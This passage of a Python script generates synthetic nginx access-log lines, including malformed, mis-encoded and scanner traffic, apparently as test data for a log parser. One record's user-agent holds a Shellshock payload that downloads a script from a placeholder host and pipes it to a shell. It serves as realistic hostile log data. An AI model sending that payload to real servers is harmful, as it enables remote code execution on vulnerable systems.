        put([{"raw": b'198.51.100.77 - - [%TIME%] "GET /category/shoes?page=3&sort=newest HTTP/2.0" 200 31874 '
                     b'"https://shop.example.com/category/shoes?page=2&sort=newest" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWeb',
              "family": "junk"}])  # cut short: the writer crashed mid-line

        # `main` format lines, behind a load balancer.
        for xff in [b"203.0.113.195", b"203.0.113.195, 70.41.3.18, 150.172.238.178", b"-",
                    b"2001:db8:85a3::8a2e:370:7334"]:
            client = self.new_client(r.choice(["chrome", "safari_ios", "firefox"]))
            client["ip"] = b"10.0.1.%d" % r.randint(2, 40)
            rec = self.record(client, b"GET", self.page_url(), 200, self.page_size(200), b"https://www.google.com/")
            rec["xff"] = xff
            put([rec])

        # Raw Latin-1 bytes (a proxy that does not escape), and a windows-1252 0x92 quote.
        client = self.new_client("chrome")
        client["user"] = "jos\u00e9".encode("latin-1")
        rec = self.record(client, b"GET", "/account/orders", 200, self.page_size(200), "https://%s/account" % HOST)
        rec["latin1"] = ("user",)
        put([rec])
        client = self.new_client("firefox")
        rec = self.record(client, b"GET", "/blog/2026/11/caf%C3%A9-culture-in-paris", 200, self.page_size(200),
                          "https://www.exemple.fr/caf\u00e9-cr\u00e8me/l\u2019\u00e9t\u00e9".encode("cp1252"))
        rec["latin1"] = ("ref",)
        put([rec])
        client = self.new_client("app")
        client["ua"] = "ShopApp/5.4.1 (Android 14; T\u00e9l\u00e9phone de Fran\u00e7oise)".encode("latin-1")
        rec = self.record(client, b"GET", "/api/v1/cart/%d" % r.randint(1, 99999), 200, 734)
        rec["latin1"] = ("ua",)
        put([rec])

        # Odd but real nginx combined output.
        client = self.new_client("none")
        rec = self.record(client, None, None, 400, 0)
        rec["request"] = b"-"
        put([rec])
        client = self.new_client("scanner")
        rec = self.record(client, None, None, 400, 157)
        rec["request"], rec["ua"] = b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03", b"-"
        put([rec])
        client = self.new_client("chrome")
        rec = self.record(client, b"GET", b"", 400, 150)
        rec["request"] = "GET /search?q=caf\u00e9 cr\u00e8me HTTP/1.1".encode("utf-8")
        put([rec])
        client = dict(self.new_client("curl"), user=b"-")
        rec = self.record(client, b"GET", b"/cgi-bin/test.cgi", 404, 146)
        rec["ua"] = b'() { :; }; /bin/bash -c "wget http://198.51.100.23/x.sh -O- | sh"'
        put([rec])
        client = self.new_client("chrome")
        rec = self.record(client, b"GET", "/produits/caf\u00e9-cr\u00e8me-12".encode("utf-8"), 404, 146)
        put([rec])
        client = self.new_client("scanner")
        client["ua"] = b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"
        scan = self.scan(client, ["/wp-login.php", "/wp-login.php", "/xmlrpc.php", "/wp-admin/setup-config.php"])
        scan[1]["method"] = b"POST"
        put(scan)

        # Make sure every method, status, version and user-agent family appears.
        normal = lambda rec: "raw" not in rec and "request" not in rec and "xff" not in rec and "latin1" not in rec

        def ensure(has, make):
            found = [i for i, rec in enumerate(recs) if normal(rec) and has(rec)]
            if found:
                used.add(found[0])  # keep it: later insertions must not overwrite it
            else:
                put([make()])

        api = self.new_client("python_requests")
        for method in METHODS:
            m = method.encode()
            ensure(lambda rec: rec.get("method") == m, lambda: self.api_calls(api, method=m)[0])
        for status in STATUSES:
            if status == 201:
                make = lambda: self.record(api, b"POST", "/api/v1/orders", 201, 1893)
            elif status == 204:
                make = lambda: self.record(api, b"DELETE", "/api/v1/wishlist/%d" % r.randint(1, 99999), 204, 0)
            else:
                make = lambda: self.record(self.new_client("chrome"), b"GET", self.page_url(), status,
                                           self.page_size(status))
            ensure(lambda rec: rec.get("status") == status, make)
        for family in ["chrome", "chrome_android", "firefox", "safari_ios", "safari_mac", "edge", "curl",
                       "googlebot", "bingbot", "python_requests", "none"]:
            ensure(lambda rec: rec.get("family") == family, lambda: self.session(self.new_client(family))[0])
        for ver in [b"1.0", b"1.1", b"2.0"]:
            ensure(lambda rec: rec.get("ver") == ver,
                   lambda: self.record(self.new_client("curl"), b"GET", "/healthz", 200, 2, ver=ver))
        ensure(lambda rec: rec.get("bytes") is None,
               lambda: self.record(self.new_client("chrome"), b"GET", "/", 200, None))
        ensure(lambda rec: (rec.get("bytes") or 0) > 5_000_000,
               lambda: self.record(self.new_client("curl"), b"GET", "/downloads/backup-2026-11-30.tar.gz", 200, 734003200))
        ensure(lambda rec: b":" in rec.get("ip", b""),
               lambda: self.record(dict(self.new_client("safari_ios"), ip=b"2a01:cb00:84f:1e00:9d1c:4b2e:7c3a:11f0"),
                                   b"GET", "/", 200, self.page_size(200)))
        ensure(lambda rec: rec.get("user", b"-") != b"-",
               lambda: self.record(dict(self.new_client("python_requests"), user=b"svc-inventory"),
                                   b"GET", "/api/v1/inventory?limit=100&offset=0", 200, 18240))
        ensure(lambda rec: len(rec.get("url") or b"") > 300,
               lambda: self.record(self.new_client("chrome"), b"POST", "/g/collect?" + self.tracking_params(long=True) * 3, 204, 0))
        ensure(lambda rec: b"%" in (rec.get("url") or b""),
               lambda: self.record(self.new_client("chrome"), b"GET", "/search?q=caf%C3%A9+cr%C3%A8me", 200, 22001))
        return recs


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--lines", type=int, required=True, help="number of lines to write")
    parser.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    parser.add_argument("--sample", action="store_true",
                        help="the README sample: also main-format, Latin-1, junk and odd lines")
    args = parser.parse_args()
    if args.lines < 0 or (args.sample and args.lines < 60):
        parser.error("--lines must be >= 0 (>= 60 with --sample)")

    gen = Generator(args.seed, args.sample)
    out = sys.stdout.buffer
    if args.sample:
        out.write(b"".join(gen.format(rec) for rec in gen.sample_records(args.lines)))
        return
    stream = gen.records()
    chunk = []
    for _ in range(args.lines):
        chunk.append(gen.format(next(stream)))
        if len(chunk) == 4096:
            out.write(b"".join(chunk))
            chunk.clear()
    out.write(b"".join(chunk))


if __name__ == "__main__":
    try:
        main()
    except BrokenPipeError:
        sys.exit(1)
